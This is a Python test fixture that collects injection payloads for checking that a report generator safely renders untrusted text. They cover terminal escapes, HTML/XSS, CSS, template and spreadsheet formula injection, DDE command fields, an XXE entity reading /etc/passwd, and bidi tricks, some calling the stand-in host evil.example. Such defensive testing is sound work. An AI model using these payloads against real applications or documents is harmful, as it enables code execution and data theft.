"""Words that try to be more than words, and a report that has them wherever people and authors write."""

import re
from typing import Final

from builders import a_pack, a_question, a_sheet
from hypothesis import strategies as st

from collabcheck.advice import advise
from collabcheck.answers import Chose, NotApplicable
from collabcheck.assessment import Assessment
from collabcheck.characters import blank
from collabcheck.report.blocks import Report
from collabcheck.report.outline.assessment import report_on
from collabcheck.scoring import score

RAN: Final = "window.ran=(window.ran||0)+1"
"""What a script would leave behind if one ran. Whatever asks for an address asks evil.example for it."""

FAMILIES: Final[dict[str, dict[str, str]]] = {
    "terminal": {
        "clear the screen": "a\x1b[2J\x1b[Hb",
        "colour": "\x1b[38;5;201;7mred\x1b[0m",
        "link (OSC 8)": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
        "clipboard (OSC 52)": "\x1b]52;c;ZXZpbA==\x07",
        "title (OSC 0)": "\x1b]0;evil\x07",
        "title reported as typed": "\x1b[21t",
        "C1 control sequence": "a\x9b31;7mb",
        "C1 string": "\x9d0;evil\x9c \x90q\x9c",
        "save and restore the cursor": "\x1b7\x1b[10;10H\x1b8",
        "device status": "\x1b[6n\x1b[c",
        "other letters": "\x0elqqk\x0f \x1b(0",
        "back over what stands there": "good\b\b\b\bevil\r",
        "bell, null and delete": "\x07\x00\x7f",
        "whole reset": "\x1bc",
        "alternate screen": "\x1b[?1049h\x1b[?1000h",
    },
    "rich": {
        "markup": "[b]bold[/b] [/] [link=https://evil.example]x[/link]",
        "unclosed": "[red on white",
        "emoji": ":smile: :warning:",
        "escaped": "\\[b]x\\\\[/b]",
    },
    "markdown": {
        "link": "[click](javascript:alert(1)) [a](<https://evil.example/b c>)",
        "image": "![x](https://evil.example/x.png)",
        "table": "| a | b |\n|---|---|\n| 1 | 2 |",
        "cell": "a | b || c",
        "autolink": "<https://evil.example> <evil@evil.example>",
        "bare address": "https://evil.example http://evil.example/a_b_c HTTPS://EVIL.EXAMPLE ftp://evil.example",
        "www": "www.evil.example WWW.evil.example (www.evil.example)",
        "e-mail": "evil@evil.example mailto:evil@evil.example xmpp:evil@evil.example/a",
        "reference": "[evil]: https://evil.example 'title'\n[evil] [evil][] [x][evil]",
        "footnote": "[^1] and\n[^1]: a note",
        "strikethrough": "~~gone~~ ~gone~",
        "emphasis": "*em* _em_ **strong** __strong__ ***both*** a*b*c",
        "code": "`code` ``two`` ``` three",
        "fence": "```js\nalert(1)\n```\n~~~\nx\n~~~",
        "indented": "    four spaces\n\tand a tab",
        "heading": "# one\n## two",
        "underlined heading": "one\n===\ntwo\n---",
        "lists": "* one\n- two\n+ three\n1. four\n2) five",
        "numbered": "1) first",
        "task": "- [x] done\n- [ ] not",
        "quotation": "> said\n>> again",
        "alert": "> [!WARNING]\n> evil",
        "rule": "***\n---\n___",
        "hard break": "one  \ntwo\\\nthree",
        "entities": "&amp; &lt; &#60; &copy; &nbsp; &#x3c;b&#x3e;",
        "block of HTML": '<div align="center">\n\n# evil\n\n</div>',
        "mathematics": "$$y$$ $x$ \\(z\\)",
        "mention": "@team #1 GH-1 evil/evil@abcdef0",
        "backslashes": "\\ \\* \\_ trailing \\",
        "front matter": "---\ntitle: evil\n---",
    },
    "html": {
        "element": f"<script>{RAN}</script><img src=https://evil.example/x onerror={RAN}>",
        "attribute in quotes": f'" onmouseover="{RAN}" autofocus onfocus="{RAN}" x="',
        "attribute in single quotes": f"' onfocus='{RAN}' autofocus x='",
        "attribute without quotes": f"x onfocus={RAN} autofocus tabindex=0",
        "comment": f"--><script>{RAN}</script><!--",
        "comment, odd ends": f"--!><img src=x onerror={RAN}><!-->",
        "script": f"</script><script>{RAN}</script>",
        "script in a comment": "<!--<script>",
        "JSON in a script": f'"}}]</script><script>{RAN}//',
        "string of a script": f"';{RAN};//\";{RAN};//`;${{{RAN}}}",
        "style": f"</style><script>{RAN}</script><link rel=stylesheet href=https://evil.example/x.css>",
        "title": f"</title><script>{RAN}</script><title>",
        "textarea": f"</textarea><script>{RAN}</script>",
        "address": f"javascript:{RAN} data:text/html,<script>{RAN}</script> file:///etc/passwd vbscript:x",
        "svg": f"<svg onload={RAN}><script>{RAN}</script><use href=https://evil.example/x.svg#a></svg>",
        "svg text": f"</text></desc></svg><svg><foreignObject><iframe srcdoc='<script>{RAN}</script>'>",
        "mathml": f'<math><mtext></mtext><mglyph><style><img src=x onerror="{RAN}"></style></mglyph></math>',
        "frame": "<iframe src=https://evil.example></iframe><object data=https://evil.example><embed src=x>",
        "form": "</fieldset></form><form action=https://evil.example><button formaction=javascript:x>Save</button>",
        "meta": '<meta http-equiv=refresh content="0;url=https://evil.example"><base href=https://evil.example>',
        "noscript": f'<noscript><p title="</noscript><img src=x onerror={RAN}>">',
        "template": f"<template><p></template><details open ontoggle={RAN}>",
        "other quotes": f"\u2018 onload={RAN} \u201d \uff1cscript\uff1e \u02bascript\u02ba \u2039b\u203a",
        "declaration": '<?php x ?><?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;]]>',
        "plaintext": "<plaintext><xmp><listing>",
        "fetch": "<link rel=dns-prefetch href=//evil.example><video poster=//evil.example src=//evil.example/v>",
    },
    "css": {
        "rule": "} body { background: url(https://evil.example/x) } @import 'https://evil.example';",
        "declaration": "red; background-image: url(//evil.example); x: expression(alert(1))",
        "attribute": '" style="position:fixed;inset:0;background:url(https://evil.example)',
    },
    "template": {
        "jinja": "{{ 7*7 }} {% raw %} {# note #} {{ self.__init__.__globals__ }}",
        "javascript": "${7*7} #{7*7} <%= 7*7 %>",
        "angular": "{{constructor.constructor('alert(1)')()}} [[7*7]] ng-app",
        "python": "%s %(x)s {0} {0.__class__} $HOME ${HOME} `id` $(id)",
        "question of an XLSForm": "${q1} ${about___organisation}",
    },
    "spreadsheet": {
        "formula": "=1+1",
        "plus": "+1+1",
        "minus": "-1+1",
        "at": "@SUM(1+1)",
        "program (DDE)": "=cmd|' /C calc'!A0",
        "another program": '=DDE("cmd";"/C calc";"x")',
        "link": '=HYPERLINK("https://evil.example?"&A1,"click")',
        "web service": '=WEBSERVICE("https://evil.example")',
        "full-width equals": "\uff1d1+1",
        "full-width plus": "\uff0b1+1",
        "full-width minus": "\uff0d1+1",
        "full-width at": "\uff20SUM(1+1)",
        "after a tab": "\t=1+1",
        "after a line end": "\n=1+1",
        "after a return": "\r=1+1",
        "after a blank": " =1+1",
        "after a quote": "'=1+1",
        "after a double quote": '"=1+1"',
        "out of the cell": 'x","=1+1\n=1+1;=1+1\t=1+1',
        "other programs' cells": 'x;"=1+1";=1+1',
        "written as XML has it": "_x003D_1+1 _x0041_ _x000D_",
        "number": "0123",
        "day": "1-2",
        "large number": "1e5",
        "yes or no": "TRUE",
    },
    "word": {
        "field": '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" }',
        "include": '{ INCLUDETEXT "https://evil.example" } { HYPERLINK "https://evil.example" }',
        "field signs": "\x13 DATE \x14 x \x15",
        "page break": "one\x0ctwo\x0bthree",
        "XML": "</w:t></w:r><w:r><w:instrText>DATE</w:instrText></w:r>",
        "special codes": '^p ^l ^t &P &N &[Page] &"Arial"',
    },
    "unseen": {
        "right to left": "\u202eabc\u202c \u202d x \u202a y \u202b z",
        "isolates": "\u2066x\u2069 \u2067y\u2069 \u2068z",
        "marks of direction": "a\u200eb\u200fc\u061cd",
        "a source that is not as it looks": "admin\u202e \u2066if yes\u2069 \u2066begin",
        "zero width": "a\u200bb\u200cc\u200dd\u2060e",
        "soft hyphen": "pass\u00adword",
        "variation selectors": "a\ufe00b\ufe01c\U000e0100d\U000e01ef",
        "tag characters": "a\U000e0001\U000e0065\U000e0076\U000e0069\U000e006c\U000e007f",
        "separators of lines": "one\u2028two\u2029three\u0085four",
        "byte order mark inside": "a\ufeffb",
        "fillers": "a\u115fb\u3164c\uffa0d\u2800e",
        "annotations": "a\ufff9b\ufffac\ufffbd",
        "deprecated": "a\u206ab\u206fc\u180ed\u034fe",
        "not characters": "a\ufffeb\uffffc\ufdd0d",
        "private use": "a\ue000b",
        "many accents": "Z" + "\u0300\u0301\u0302\u0303" * 12,
    },
    "plain": {
        "quotation marks": "'\" \u2018\u2019 \u201c\u201d \u2014 \u2026 \u0175 \u6f22 \U0001f642",
        "no blank anywhere": "x" * 600,
        "right-to-left letters": "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
    },
}
"""Payloads by family and name."""

NAMED: Final = {f"{family}: {name}": text for family, named in FAMILIES.items() for name, text in named.items()}
EVERY: Final = tuple(NAMED.values())
LINES: Final = tuple("\n".join(EVERY[i : i + 3]) for i in range(0, len(EVERY), 3))
"""The same, three to a text and each at the beginning of a line: for what is large."""

PAYLOADS = (
    "[b]bold[/b] [/] [link=https://evil.example]x[/link]",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "[click](javascript:alert(1)) ![x](https://evil.example/x.png)",
    "* one\n- two\n1. three\n# four\n> five\n    six",
    "`code` ``` ~~~ __init__ *em* **strong** ~~gone~~",
    "&amp; &lt; &#60; {{ 1+1 }} {% raw %} ${x} $$y$$",
    "=1+1 +1 -1 @SUM(A1)",
    "1) first",
    "Setext\n===",
    ":smile: www.example.org https://example.org someone@example.org @team #1",
    "]]> <!-- --> <?php ?>",
    "\\ \\* \\_ trailing \\",
    "'\" ‘’ “” — … ŵ 漢 🙂",
    "x" * 5000,
)
"""A few of every kind that need no code to be read: for what is tried with each by itself."""
HOSTILE = "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\ \x1b[2J \x9b31m \x07 \u202eabc\u202c \u2066x\u2069"
"""Control and bidi characters, which are shown as codes."""

words = st.text(st.characters(exclude_categories=["Cs", "Cc"]), min_size=1, max_size=60).filter(
    lambda text: not blank(text)
)


def a_result(text: str) -> tuple[Assessment, Report]:
    """An assessment with this text wherever people write, and in the pack."""
    pack = a_pack(
        a_question("q1", "size", text=text[:4000], hint=text[:4000]), a_question("q2", "size"), title=text[:200]
    )
    sheet = a_sheet(q1=Chose(("some",), note=text, evidence=text), q2=NotApplicable(text))
    assessment = score(pack, sheet)
    return assessment, report_on(assessment, advise(assessment), explain=True)


def squeezed(text: str) -> str:
    return re.sub(r"\s+", "", text)
